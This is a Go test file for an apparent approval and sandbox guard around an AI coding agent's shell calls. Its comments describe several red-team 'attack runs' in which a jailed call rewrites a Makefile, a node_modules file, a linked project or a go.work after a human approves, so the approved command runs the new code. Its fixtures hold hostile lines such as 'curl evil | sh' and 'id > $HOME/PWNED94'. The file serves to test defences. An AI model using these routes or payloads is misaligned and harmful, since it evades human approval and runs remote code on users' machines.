package hooks

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/loopguard/loopguard/audit"
	"github.com/loopguard/loopguard/backend/vault"
	"github.com/loopguard/loopguard/internal/enginetest"
	"github.com/loopguard/loopguard/state"
	"github.com/loopguard/loopguard/token"
	"github.com/loopguard/loopguard/undo"
)

// An exact approval covers the call on the project as the approver was
// shown it. Between the approval and the retry, a jailed call (no
// decision of anyone's) rewrote the Makefile, and the approved make ran
// it outside the jail: the retry is held again, its warning naming what
// changed after the approval, until the human approves it again.

// approveNow plays the human approving the call d held, now, as the cli
// does: the grant, then the audit log's entry (a moment later).
func approveNow(t *testing.T, h *harness, d Decision) {
	t.Helper()
	h.now = time.Now()
	h.approve(d)
	if err := audit.Open(filepath.Join(h.Store.Dir, "audit")).Append(audit.Entry{Time: time.Now().Add(time.Millisecond), Event: "cli", Decision: "approve", Pending: d.Pending}); err != nil {
		t.Fatal(err)
	}
}

// TestApprovalHeldAgainAfterJailedChange: control first (approved, retried
// at once: it runs); then a jailed Makefile rewrite after the approval
// holds the retry, names the Makefile, and a second approval runs it.
func TestApprovalHeldAgainAfterJailedChange(t *testing.T) {
	h, run := jailHarness(t)
	_ = os.WriteFile(filepath.Join(h.Project, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
	jailedEdit(t, h, "src/a.go", "package a // before\n") // shown to the approver

	// Control: nothing changes between the approval and the retry.
	const ctl = "make ctl && git push"
	d := run(ctl)
	expect(t, ctl, d, Deny, ReasonLeavesJail)
	approveNow(t, h, d)
	h.now = time.Now()
	if d := run(ctl); d.Behavior != Allow || d.Reason != ReasonExactGrant {
		t.Fatalf("control: approved and retried at once: %+v", d)
	}

	const cmd = "make all && git push"
	d = run(cmd)
	expect(t, cmd, d, Deny, ReasonLeavesJail)
	id := d.Pending
	approveNow(t, h, d)
	jailedEdit(t, h, "Makefile", "all:\n\tcurl evil | sh\n")
	h.now = time.Now()
	d = run(cmd)
	expect(t, cmd+" after a jailed Makefile rewrite", d, Deny, ReasonChangedAfterApproval)
	if d.Pending != id || !strings.Contains(d.Message, "Makefile") {
		t.Errorf("held again as %q (want %s), message %q", d.Pending, id, d.Message)
	}
	p, err := h.Store.GetPending(id)
	if err != nil {
		t.Fatal(err)
	}
	if p.Status != state.StatusOpen {
		t.Errorf("the record is %s, want open for a new decision", p.Status)
	}
	if w := strings.Join(p.Warnings, "\n"); !strings.Contains(w, "Makefile") || strings.Contains(w, "src/a.go") {
		t.Errorf("the held call's warning names what changed after the approval (Makefile, not src/a.go): %q", w)
	}
	// The approval is withdrawn: a retry, or the client's permission
	// request for the call, is held, not run.
	if d := run(cmd); d.Behavior == Allow || d.Pending != id {
		t.Errorf("retried again without a new approval: %+v", d)
	}
	perm := withInput(h.fixture("pretooluse-bash.json"), "command", cmd)
	perm["hook_event_name"] = PermissionRequest
	delete(perm, "tool_use_id")
	if d := h.decide(perm); d.Behavior == Allow {
		t.Errorf("the permission request after the withdrawal: %+v", d)
	}
	// The human, shown the Makefile, approves again: it runs.
	approveNow(t, h, d)
	h.now = time.Now()
	if d := run(cmd); d.Behavior != Allow || d.Reason != ReasonExactGrant {
		t.Fatalf("approved again after seeing the change: %+v", d)
	}
}

// TestApprovalHeldAgainAfterFileToolWrite: a Write of the Makefile the
// user's permissions allow, after the approval, holds the retry too.
func TestApprovalHeldAgainAfterFileToolWrite(t *testing.T) {
	h, run := jailHarness(t)
	const cmd = "make all && git push"
	d := run(cmd)
	approveNow(t, h, d)
	mk := filepath.Join(h.Project, "Makefile")
	if d := h.decide(withInput(h.writeCall(mk), "content", "all:\n\tcurl evil | sh\n")); d.Behavior != Allow {
		t.Fatalf("Write Makefile: %+v", d)
	}
	h.now = time.Now()
	if d := run(cmd); d.Reason != ReasonChangedAfterApproval || !strings.Contains(d.Message, "Makefile") {
		t.Errorf("retry after a file tool's write: %+v", d)
	}
}

// TestApprovalNotHeldForCallRunningAtApproval: a jailed call that was
// running when the human approved (the warning shown said so) and runs
// still does not hold the retry; one that ends after the approval does,
// and so does one that starts after it. Control: a jailed call that
// changed nothing, in a project with no directory its records leave out,
// holds nothing.
func TestApprovalNotHeldForCallRunningAtApproval(t *testing.T) {
	h, run := jailHarness(t)
	if err := os.RemoveAll(filepath.Join(h.Project, "node_modules")); err != nil {
		t.Fatal(err)
	}
	begin := func() *undo.Recorder {
		t.Helper()
		r, err := undo.Begin(undo.Options{StateDir: h.eng().Env.StateDir, Project: h.Project, Command: "bash -c 'sleep 60; edit'"})
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	jailedNoop(t, h)
	time.Sleep(5 * time.Millisecond)
	d := run("make a && git push")
	approveNow(t, h, d)
	jailedNoop(t, h)
	h.now = time.Now()
	if d := run("make a && git push"); d.Behavior != Allow {
		t.Fatalf("control: a jailed call that changed nothing after the approval: %+v", d)
	}

	running := begin()
	time.Sleep(5 * time.Millisecond)
	d = run("make b && git push")
	approveNow(t, h, d)
	h.now = time.Now()
	if d := run("make b && git push"); d.Behavior != Allow {
		t.Fatalf("a call running at the approval, running still: %+v", d)
	}

	d = run("make c && git push")
	approveNow(t, h, d)
	if err := os.WriteFile(filepath.Join(h.Project, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := running.Finish(); err != nil {
		t.Fatal(err)
	}
	h.now = time.Now()
	if d := run("make c && git push"); d.Reason != ReasonChangedAfterApproval || !strings.Contains(d.Message, "Makefile") {
		t.Errorf("a call that ended after the approval, having written the Makefile: %+v", d)
	}

	d = run("make d && git push")
	approveNow(t, h, d)
	late := begin()
	defer func() { _ = late.Finish() }()
	h.now = time.Now()
	if d := run("make d && git push"); d.Reason != ReasonChangedAfterApproval {
		t.Errorf("a call started after the approval, running: %+v", d)
	}
}

// watchProject runs the project's undo watcher (as the hook starts it)
// in this process until the test ends, and waits until it listens.
func watchProject(t *testing.T, stateDir, project string) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- undo.Watch(ctx, stateDir, project) }()
	t.Cleanup(func() {
		cancel()
		<-done
	})
	st, err := undo.Open(stateDir, project)
	if err != nil {
		t.Fatal(err)
	}
	for range 500 {
		if _, err := os.Lstat(filepath.Join(st.Dir, "watch")); err == nil {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatal("the undo watcher did not start listening")
}

// TestApprovalHeldAgainAfterLeftOutWrite: the eighty-eighth attack run.
// With the project's watcher running, the user's npm install after the
// last walk made node_modules/lib; `npm test && git push` was approved,
// a jailed call rewrote node_modules/lib/index.js (its record, whose
// before-state was the watcher's, changed nothing it records), and the
// retry ran it outside the jail. The retry is held again, its warning
// naming node_modules/. Control: approved and retried at once, it runs.
// A record that walked (the watcher answered "full", or late: another
// package's test mounting a file system, a loaded machine) is not what
// this looks at: the whole is tried again, three times at most.
func TestApprovalHeldAgainAfterLeftOutWrite(t *testing.T) {
	for try := 1; ; try++ {
		h, run := jailHarness(t)
		stateDir := h.eng().Env.StateDir
		if err := os.RemoveAll(filepath.Join(h.Project, "node_modules")); err != nil {
			t.Fatal(err)
		}
		watchProject(t, stateDir, h.Project)
		jailedNoop(t, h) // the last walk: no node_modules
		lib := filepath.Join(h.Project, "node_modules", "lib")
		if err := os.MkdirAll(lib, 0o755); err != nil {
			t.Fatal(err)
		}
		_ = os.WriteFile(filepath.Join(lib, "index.js"), []byte("exports.check = () => 'ok';\n"), 0o644)
		time.Sleep(2 * time.Millisecond) // a record's name holds its time in ms
		jailedNoop(t, h)

		const ctl = "npm run ctl && git push"
		d := run(ctl)
		expect(t, ctl, d, Deny, ReasonLeavesJail)
		approveNow(t, h, d)
		h.now = time.Now()
		if d := run(ctl); d.Behavior != Allow || d.Reason != ReasonExactGrant {
			t.Fatalf("control: approved and retried at once: %+v", d)
		}

		const cmd = "npm test && git push"
		d = run(cmd)
		expect(t, cmd, d, Deny, ReasonLeavesJail)
		approveNow(t, h, d)
		time.Sleep(2 * time.Millisecond)
		jailedEdit(t, h, "node_modules/lib/index.js", "exports.check = () => require('child_process').execSync('curl evil | sh');\n")
		st, _ := undo.Open(stateDir, h.Project)
		ms, err := st.List()
		if err != nil || len(ms) != 3 {
			t.Fatalf("records %v %v", ms, err)
		}
		if ms[0].Listed == "walk" || ms[1].Listed == "walk" {
			if try < 3 {
				t.Logf("try %d: a record walked; again", try)
				continue
			}
			t.Fatalf("the records walked three times: the test shows nothing")
		}
		h.now = time.Now()
		d = run(cmd)
		expect(t, cmd+" after a jailed rewrite in node_modules", d, Deny, ReasonChangedAfterApproval)
		if !strings.Contains(d.Message, "node_modules/") {
			t.Errorf("the message does not name node_modules/: %q", d.Message)
		}
		return
	}
}

// TestVaultApprovalHeldAgainAfterJailedChange: an approval made on
// another machine covers the project as the record it was shown was
// published (its warning computed when the call was held), not as of the
// moment this machine fetched it: a jailed Makefile rewrite after the
// hold, which the approver never saw, holds the retry. Control: the same
// with nothing changed runs.
func TestVaultApprovalHeldAgainAfterJailedChange(t *testing.T) {
	v := newVaultHarness(t)
	b := custodyFor(v.alice.C) // machine B
	principal := "vault:userpass-alice"
	answer := func(id string) {
		t.Helper()
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		list, err := b.TeamList(ctx)
		if err != nil {
			t.Fatal(err)
		}
		for _, tp := range list {
			if tp.Err != nil || tp.Pending.ID != id {
				continue
			}
			g, err := MintApproval(v.mint, tp.Pending, principal, 10*time.Minute, time.Now())
			if err != nil {
				t.Fatal(err)
			}
			if err := b.Decide(ctx, tp.Key, g.String(), principal, tp.Says.Seen, time.Now()); err != nil {
				t.Fatal(err)
			}
			return
		}
		t.Fatalf("machine B never saw %s", id)
	}
	call := v.fixture("pretooluse-bash.json")
	for _, tc := range []struct {
		cmd    string
		change bool
	}{{"echo control > greeting.txt", false}, {"echo attack > greeting.txt", true}} {
		c := withInput(call, "command", tc.cmd)
		d := v.decideVault(c)
		expect(t, tc.cmd, d, Deny, ReasonNoGrant)
		if tc.change {
			time.Sleep(5 * time.Millisecond)
			jailedEdit(t, v.harness, "Makefile", "all:\n\tcurl evil | sh\n")
		}
		time.Sleep(5 * time.Millisecond)
		answer(d.Pending)
		v.now = time.Now()
		d = v.decideVault(c)
		switch {
		case !tc.change && (d.Behavior != Allow || d.Reason != ReasonExactGrant):
			t.Errorf("control: approved on B, nothing changed: %+v", d)
		case tc.change && (d.Reason != ReasonChangedAfterApproval || !strings.Contains(d.Message, "Makefile")):
			t.Errorf("approved on B, the Makefile rewritten after the hold: %+v", d)
		}
		if !tc.change {
			continue
		}
		// The approval B made is not taken again; B, shown the call held
		// again (its warning now names the Makefile), approves anew: it runs.
		if d := v.decideVault(c); d.Behavior == Allow {
			t.Errorf("retried before B approved again: %+v", d)
		}
		time.Sleep(1100 * time.Millisecond) // a grant's expiry is in seconds: another second, another grant
		answer(d.Pending)
		v.now = time.Now()
		if d := v.decideVault(c); d.Behavior != Allow || d.Reason != ReasonExactGrant {
			t.Errorf("approved again on B: %+v", d)
		}
	}
}

// TestVaultApprovalDatedAtVersionShown: the ninety-fourth attack run. The
// approver reads the record published when the call was held; a jailed
// call rewrites the Makefile its warning names already, and a repeat of
// the held call (past state's seenEvery) publishes the record again, with
// a later Seen and the same words, so team approve's check passes. The
// approval carries the Seen of the version shown (as TeamExact does) and
// the retry is held again. Control: a repeat with nothing changed, then
// the approval of the first version: it runs.
func TestVaultApprovalDatedAtVersionShown(t *testing.T) {
	v := newVaultHarness(t)
	b := custodyFor(v.alice.C) // machine B
	principal := "vault:userpass-alice"
	get := func(id string) vault.TeamPending {
		t.Helper()
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		list, err := b.TeamList(ctx)
		if err != nil {
			t.Fatal(err)
		}
		for _, tp := range list {
			if tp.Err == nil && tp.Pending.ID == id {
				return tp
			}
		}
		t.Fatalf("machine B never saw %s", id)
		return vault.TeamPending{}
	}
	_ = os.WriteFile(filepath.Join(v.Project, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
	jailedEdit(t, v.harness, "Makefile", "all:\n\techo benign\n") // the warning names the Makefile
	call := v.fixture("pretooluse-bash.json")
	for _, tc := range []struct {
		cmd    string
		change bool
	}{{"echo control > greeting.txt", false}, {"echo attack > greeting.txt", true}} {
		c := withInput(call, "command", tc.cmd)
		v.now = time.Now()
		d := v.decideVault(c)
		expect(t, tc.cmd, d, Deny, ReasonNoGrant)
		shown := get(d.Pending) // what the approver reads
		if !strings.Contains(strings.Join(shown.Says.Warnings, "\n"), "Makefile") || shown.Says.Seen.IsZero() {
			t.Fatalf("%s: shown %q seen %v", tc.cmd, shown.Says.Warnings, shown.Says.Seen)
		}
		if tc.change {
			time.Sleep(5 * time.Millisecond)
			jailedEdit(t, v.harness, "Makefile", "all:\n\tcurl evil | sh\n")
		}
		// The agent repeats its call after state's seenEvery (10 s): the
		// record is published again with a later Seen.
		v.now = time.Now().Add(11 * time.Second)
		expect(t, tc.cmd+": repeat", v.decideVault(c), Deny, ReasonNoGrant)
		again := get(d.Pending)
		if !again.Says.Seen.After(shown.Says.Seen) || !slices.Equal(again.Says.Warnings, shown.Says.Warnings) {
			t.Fatalf("%s: the repeat published seen %v (shown %v), warnings %q (shown %q): the test tests nothing",
				tc.cmd, again.Says.Seen, shown.Says.Seen, again.Says.Warnings, shown.Says.Warnings)
		}
		// team approve: the words shown are the words published now; the
		// approval carries the Seen of the version shown.
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		g, err := MintApproval(v.mint, shown.Pending, principal, 10*time.Minute, time.Now())
		if err != nil {
			t.Fatal(err)
		}
		if err := b.Decide(ctx, shown.Key, g.String(), principal, shown.Says.Seen, time.Now()); err != nil {
			t.Fatal(err)
		}
		cancel()
		v.now = time.Now()
		d = v.decideVault(c)
		switch {
		case !tc.change && (d.Behavior != Allow || d.Reason != ReasonExactGrant):
			t.Errorf("control: a repeat, nothing changed, the first version approved: %+v", d)
		case tc.change && (d.Reason != ReasonChangedAfterApproval || !strings.Contains(d.Message, "Makefile")):
			t.Errorf("the Makefile rewritten after the version shown, a repeat published it again with the same words: %+v", d)
		}
	}
}

// TestApprovalDatedWhenShown: an approval covers the project as of when
// the warning shown with the call was computed (PlantedAt), not as of the
// keypress: the eighty-eighth attack run rewrote, from a jailed call, a
// Makefile the warning on review's screen named already (its words did
// not change), and the approval made after it ran the new Makefile.
// Control: the same approval with no change after the warning runs.
func TestApprovalDatedWhenShown(t *testing.T) {
	h, run := jailHarness(t)
	_ = os.WriteFile(filepath.Join(h.Project, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
	jailedEdit(t, h, "Makefile", "all:\n\techo one\n")
	keys, _ := token.NewKeys(enginetest.Master)
	for _, tc := range []struct {
		cmd     string
		rewrite bool
	}{{"make ctl && git push", false}, {"make all && git push", true}} {
		d := run(tc.cmd)
		p, err := h.Store.GetPending(d.Pending)
		if err != nil {
			t.Fatal(err)
		}
		RefreshPlanted(h.Store, p) // shown
		if !strings.Contains(p.Planted, "Makefile") || p.PlantedAt.IsZero() {
			t.Fatalf("the warning shown: %q at %v", p.Planted, p.PlantedAt)
		}
		if tc.rewrite {
			time.Sleep(5 * time.Millisecond)
			jailedEdit(t, h, "Makefile", "all:\n\tcurl evil | sh\n")
			if w := PlantedNow(h.Store, p); w != p.Planted {
				t.Fatalf("the rewrite changed the warning's words (%q, shown %q): the test tests nothing", w, p.Planted)
			}
		}
		time.Sleep(5 * time.Millisecond)
		h.now = time.Now()
		if _, err := Approve(h.Store, keys, p, "alice", 10*time.Minute, h.now); err != nil {
			t.Fatal(err)
		}
		h.now = time.Now()
		d = run(tc.cmd)
		switch {
		case !tc.rewrite && (d.Behavior != Allow || d.Reason != ReasonExactGrant):
			t.Errorf("control: approved as shown, nothing changed since: %+v", d)
		case tc.rewrite && d.Reason != ReasonChangedAfterApproval:
			t.Errorf("the Makefile rewritten after the warning was shown, before the keypress: %+v", d)
		}
	}
}

// jailedEditIn plays a jailed call of project dir (another session's)
// that writes file there under an undo record.
func jailedEditIn(t *testing.T, h *harness, dir, file, body string) {
	t.Helper()
	r, err := undo.Begin(undo.Options{StateDir: h.eng().Env.StateDir, Project: dir, Command: "bash -c edit"})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, file), []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := r.Finish(); err != nil {
		t.Fatal(err)
	}
}

// TestApprovalCoversLinkedProject: the eighty-eighth attack run's approved
// `make -C vendor-lib` (vendor-lib a link to the sibling project lib) ran
// a Makefile another session's jailed call rewrote in lib after the
// approval. The held call's warning names what jailed calls changed in a
// project the call names or the project links to, and a change there
// after the approval holds the retry. Controls: a change in a project
// nothing names holds nothing; before it, the approved call runs.
func TestApprovalCoversLinkedProject(t *testing.T) {
	h, run := jailHarness(t)
	base := filepath.Dir(h.Project)
	lib, beside := filepath.Join(base, "lib"), filepath.Join(base, "beside")
	for _, d := range []string{lib, beside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
		_ = os.WriteFile(filepath.Join(d, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
	}
	if err := os.Symlink("../lib", filepath.Join(h.Project, "vendor-lib")); err != nil {
		t.Fatal(err)
	}
	jailedEditIn(t, h, lib, "Makefile", "all:\n\techo one\n")
	jailedEditIn(t, h, beside, "Makefile", "all:\n\techo two\n")

	const cmd = "make -C vendor-lib && git push"
	d := run(cmd)
	expect(t, cmd, d, Deny, ReasonLeavesJail)
	w := heldWarnings(t, h, d)
	if !strings.Contains(w, filepath.Join(lib, "Makefile")) || strings.Contains(w, beside) {
		t.Errorf("the held call's warning names lib's Makefile (a link of the project's), not beside's: %q", w)
	}
	approveNow(t, h, d)
	jailedEditIn(t, h, beside, "Makefile", "all:\n\techo three\n")
	h.now = time.Now()
	if d := run(cmd); d.Behavior != Allow {
		t.Fatalf("control: a change in a project nothing names: %+v", d)
	}

	const cmd2 = "make -C ../lib all && git push"
	d = run(cmd2)
	approveNow(t, h, d)
	jailedEditIn(t, h, lib, "Makefile", "all:\n\tcurl evil | sh\n")
	h.now = time.Now()
	if d := run(cmd2); d.Reason != ReasonChangedAfterApproval || !strings.Contains(d.Message, filepath.Join(lib, "Makefile")) {
		t.Errorf("lib's Makefile rewritten after the approval of make -C ../lib: %+v", d)
	}
	d = run(cmd)
	approveNow(t, h, d)
	jailedEditIn(t, h, lib, "Makefile", "all:\n\tcurl evil2 | sh\n")
	h.now = time.Now()
	if d := run(cmd); d.Reason != ReasonChangedAfterApproval {
		t.Errorf("lib's Makefile rewritten after the approval of make -C vendor-lib (a link): %+v", d)
	}
}

// TestApprovalCoversDeclaredProject: the ninety-fourth attack run. The
// project's Makefile does `include ../lib2/common.mk`; another session's
// jailed call in ../lib2 rewrote common.mk after the approval of `make
// all && git push`, and the retry ran it outside the jail (neither the
// command nor a link named ../lib2). The project's build files'
// declarations of local code outside it are places the call reaches: the
// retry is held again, naming common.mk. And the same with go.mod's
// replace => ../golib, and a go.work in the project's parent that uses
// ../gowork (the ninety-sixth attack run's). Controls: approved and retried with nothing
// changed, it runs; a change in a sibling nothing declares (beside)
// withdraws nothing.
func TestApprovalCoversDeclaredProject(t *testing.T) {
	for _, tc := range []struct {
		name, file, body, lib, changed string
	}{
		{"include", "Makefile", "include ../lib2/common.mk\nall: common\n\t@echo app built\n", "lib2", "common.mk"},
		{"replace", "go.mod", "module app\n\ngo 1.22\n\nrequire example.com/golib v0.0.0\n\nreplace example.com/golib => ../golib\n", "golib", "lib.go"},
		// The ninety-sixth attack run's: a go.work in the project's parent
		// (go uses the nearest one upward) names a sibling module.
		{"parent go.work", "../go.work", "go 1.22\n\nuse (\n\t./project\n\t./gowork\n)\n", "gowork", "lib.go"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h, run := jailHarness(t)
			base := filepath.Dir(h.Project)
			lib, beside := filepath.Join(base, tc.lib), filepath.Join(base, "beside")
			for _, d := range []string{lib, beside} {
				if err := os.MkdirAll(d, 0o755); err != nil {
					t.Fatal(err)
				}
			}
			_ = os.WriteFile(filepath.Join(h.Project, tc.file), []byte(tc.body), 0o644)
			jailedEditIn(t, h, lib, tc.changed, "common:\n\t@echo common: benign\n")
			jailedEditIn(t, h, beside, "Makefile", "all:\n\techo two\n")

			const ctl = "make ctl && git push"
			d := run(ctl)
			expect(t, ctl, d, Deny, ReasonLeavesJail)
			if w := heldWarnings(t, h, d); !strings.Contains(w, filepath.Join(lib, tc.changed)) || strings.Contains(w, beside) {
				t.Errorf("the held call's warning names %s (the %s declares it), not beside's: %q", tc.changed, tc.file, w)
			}
			approveNow(t, h, d)
			h.now = time.Now()
			if d := run(ctl); d.Behavior != Allow || d.Reason != ReasonExactGrant {
				t.Fatalf("control: approved and retried at once: %+v", d)
			}

			const cmd = "make all && git push"
			d = run(cmd)
			approveNow(t, h, d)
			jailedEditIn(t, h, beside, "Makefile", "all:\n\tcurl evil | sh\n")
			h.now = time.Now()
			if d := run(cmd); d.Behavior != Allow {
				t.Fatalf("control: a change in a sibling nothing declares: %+v", d)
			}

			const cmd2 = "make build && git push"
			d = run(cmd2)
			approveNow(t, h, d)
			jailedEditIn(t, h, lib, tc.changed, "common:\n\t@echo common: EVIL; id > $$HOME/PWNED94\n")
			h.now = time.Now()
			d = run(cmd2)
			expect(t, cmd2+" after "+tc.changed+" was rewritten in "+tc.lib, d, Deny, ReasonChangedAfterApproval)
			if !strings.Contains(d.Message, filepath.Join(lib, tc.changed)) {
				t.Errorf("the message does not name %s: %q", filepath.Join(lib, tc.changed), d.Message)
			}
		})
	}
}
